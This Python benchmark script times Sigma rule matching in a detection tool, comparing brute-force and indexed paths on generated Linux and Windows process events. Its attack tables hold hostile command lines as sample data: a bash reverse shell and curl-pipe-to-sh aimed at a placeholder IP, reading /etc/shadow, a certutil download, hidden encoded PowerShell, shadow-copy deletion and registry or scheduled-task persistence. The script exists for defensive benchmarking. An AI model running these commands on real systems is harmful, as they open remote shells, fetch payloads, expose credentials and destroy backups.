"""Sigma matching speed: brute-force evaluation against the literal prefilter.

Runs in one process, per rule set, on the same generated process-creation events:
- brute force: ``RuleSet.match_all_rules``, every rule of the event's log sources (the
  reference, and what ``RuleSet.match`` did before the prefilter);
- indexed: ``RuleSet.match``, only the rules whose literal needs the event fulfils.

Rule sets: Vigil's built-in and SigmaHQ's Linux rules on Linux events, and all SigmaHQ Windows
rules on Windows events (Image/CommandLine-style ECS fields). Most events are everyday commands,
some are attacks the rules look for. Both paths must return the same rules; the bench stops if
they do not. Prints events per second and the speed-up.

    python -m bench.bench_detect [--events N] [--only linux|windows]
"""

from __future__ import annotations

import argparse
import random
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from vigil.detect import Rule, RuleSet, builtin_rules_dir

SIGMA_RULES = Path(__file__).resolve().parents[1].parent / "shared/data/sigma/rules"

# (executable, command line, parent executable); a quarter of the events are attacks.
LINUX_EVERYDAY = [
    ("/usr/bin/ls", "ls -la /var/log", "/usr/bin/bash"),
    ("/usr/bin/grep", "grep -r error /var/log/syslog", "/usr/bin/bash"),
    ("/usr/bin/python3", "python3 -m pip list", "/usr/bin/bash"),
    ("/usr/bin/git", "git pull --rebase", "/usr/bin/zsh"),
    ("/usr/bin/systemctl", "systemctl status nginx", "/usr/bin/sudo"),
    ("/usr/bin/cat", "cat /etc/hostname", "/usr/bin/bash"),
    ("/usr/sbin/sshd", "sshd -D -R", "/usr/lib/systemd/systemd"),
    ("/usr/bin/tar", "tar xzf /tmp/release.tar.gz -C /opt/app", "/usr/bin/bash"),
    ("/usr/bin/curl", "curl -fsSL https://example.org/health", "/usr/bin/bash"),
    ("/bin/sh", "sh -c 'echo hello > /dev/null'", "/usr/sbin/cron"),
]
LINUX_ATTACKS = [
    ("/usr/bin/base64", "base64 -d /tmp/payload.b64", "/usr/bin/bash"),
    ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "/usr/sbin/apache2"),
    ("/usr/bin/rm", "rm -f /root/.bash_history", "/usr/bin/bash"),
    ("/usr/bin/chmod", "chmod +x /tmp/.x/kworker", "/usr/bin/bash"),
    ("/usr/bin/cat", "cat /etc/shadow", "/usr/bin/python3"),
    ("/usr/bin/curl", "curl -s http://203.0.113.7/x.sh | sh", "/usr/bin/bash"),
    ("/usr/sbin/auditctl", "auditctl -D", "/usr/bin/sudo"),
    ("/usr/bin/crontab", "crontab /tmp/.c", "/bin/sh"),
]
WINDOWS_EVERYDAY = [
    ("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p", "services.exe"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "userinit.exe"),
    ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir C:\\Users", "explorer.exe"),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"chrome.exe" --type=renderer --lang=en-US',
        "chrome.exe",
    ),
    ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe", "cmd.exe"),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git status", "powershell.exe"),
    ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "svchost.exe"),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile Get-ChildItem",
        "explorer.exe",
    ),
]
WINDOWS_ATTACKS = [
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
        "cmd.exe",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        "winword.exe",
    ),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer",
        "excel.exe",
    ),
    (
        "C:\\Windows\\System32\\reg.exe",
        "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe",
        "cmd.exe",
    ),
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe"),
    (
        "C:\\Windows\\System32\\schtasks.exe",
        "schtasks /create /tn x /tr C:\\Users\\Public\\x.exe /sc onlogon",
        "cmd.exe",
    ),
]


def linux_event(seq: int, rng: random.Random) -> dict[str, Any]:
    """A flat ECS Linux process start, as the agent sends it."""
    table = LINUX_ATTACKS if rng.random() < 0.25 else LINUX_EVERYDAY
    executable, command_line, parent = rng.choice(table)
    command_line = f"{command_line} --marker={seq}"
    return {
        "@timestamp": "2025-01-01T00:00:00.000000Z",
        "event.kind": "event",
        "event.category": ["process"],
        "event.type": ["start"],
        "event.action": "exec",
        "event.sequence": seq,
        "host.os.type": "linux",
        "process.entity_id": f"e{seq}",
        "process.pid": 1000 + seq,
        "process.executable": executable,
        "process.name": executable.rsplit("/", 1)[-1],
        "process.args": command_line.split(),
        "process.command_line": command_line,
        "process.working_directory": "/root",
        "process.parent.entity_id": f"e{seq - 1}",
        "process.parent.pid": 999 + seq,
        "process.parent.executable": parent,
        "process.parent.command_line": parent.rsplit("/", 1)[-1],
        "user.id": "0",
        "user.name": rng.choice(["root", "alice", "www-data"]),
    }


def windows_event(seq: int, rng: random.Random) -> dict[str, Any]:
    """A flat ECS Windows process creation with the fields Sigma's Image, CommandLine... map to."""
    table = WINDOWS_ATTACKS if rng.random() < 0.25 else WINDOWS_EVERYDAY
    executable, command_line, parent = rng.choice(table)
    name = executable.rsplit("\\", 1)[-1]
    return {
        "@timestamp": "2025-01-01T00:00:00.000000Z",
        "event.kind": "event",
        "event.category": ["process"],
        "event.type": ["start"],
        "event.sequence": seq,
        "host.os.type": "windows",
        "process.entity_id": f"{{{seq:08x}-0000-0000-0000-000000000000}}",
        "process.pid": 4000 + seq,
        "process.executable": executable,
        "process.name": name,
        "process.command_line": command_line,
        "process.working_directory": "C:\\Windows\\system32\\",
        "process.pe.original_file_name": name.upper(),
        "process.pe.company": "Microsoft Corporation",
        "process.hash.sha256": f"{seq:064x}",
        "process.parent.executable": f"C:\\Windows\\System32\\{parent}",
        "process.parent.command_line": parent,
        "user.name": rng.choice(["CORP\\alice", "NT AUTHORITY\\SYSTEM"]),
        "winlog.event_data.IntegrityLevel": rng.choice(["Medium", "High", "System"]),
    }


def rate(count: int, seconds: float) -> float:
    return count / seconds if seconds else float("inf")


def run(
    name: str,
    rule_paths: Sequence[Path],
    make: Callable[[int, random.Random], dict[str, Any]],
    count: int,
) -> None:
    """Load the rules, then time both matching paths on the same events and compare them."""
    started = time.perf_counter()
    rules = RuleSet.from_paths(rule_paths)
    load = time.perf_counter() - started
    rng = random.Random(7)
    events = [make(seq, rng) for seq in range(1, count + 1)]

    started = time.perf_counter()
    rules.match(events[0])  # builds the prefilter of this log source
    build = time.perf_counter() - started
    plan = rules._plan(events[0])

    results: dict[str, list[list[Rule]]] = {}
    rates: dict[str, float] = {}
    for label, match in (("brute force", rules.match_all_rules), ("indexed", rules.match)):
        started = time.perf_counter()
        results[label] = [match(event) for event in events]
        rates[label] = rate(len(events), time.perf_counter() - started)
    same = all(
        [id(r) for r in fast] == [id(r) for r in slow]
        for fast, slow in zip(results["indexed"], results["brute force"], strict=True)
    )
    if not same:
        raise SystemExit(f"{name}: indexed matching differs from brute force; this is a bug")
    matches = sum(map(len, results["indexed"]))
    evaluated = sum(len(plan.prefilter.candidates(event)) for event in events) / len(events)

    print(f"{name}: {len(rules)} rules ({len(rules.errors)} not loaded), {len(events)} events")
    print(f"  loaded in {load:.1f} s; prefilter built in {build * 1000:.0f} ms")
    print(
        f"  rules of the event's log source {len(plan.rules)}, "
        f"without literal needs {len(plan.prefilter.always)}, "
        f"evaluated per event {evaluated:.1f}"
    )
    for label in ("brute force", "indexed"):
        print(f"  {label:<12} {rates[label]:10.0f} events/s ({matches} matches)")
    print(f"  speed-up     {rates['indexed'] / rates['brute force']:10.1f}x")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=5000)
    parser.add_argument("--only", choices=("linux", "windows"))
    args = parser.parse_args()
    if args.only in (None, "linux"):
        run("linux", [builtin_rules_dir(), SIGMA_RULES / "linux"], linux_event, args.events)
    if args.only in (None, "windows"):
        run("windows", [SIGMA_RULES / "windows"], windows_event, args.events)


if __name__ == "__main__":
    main()
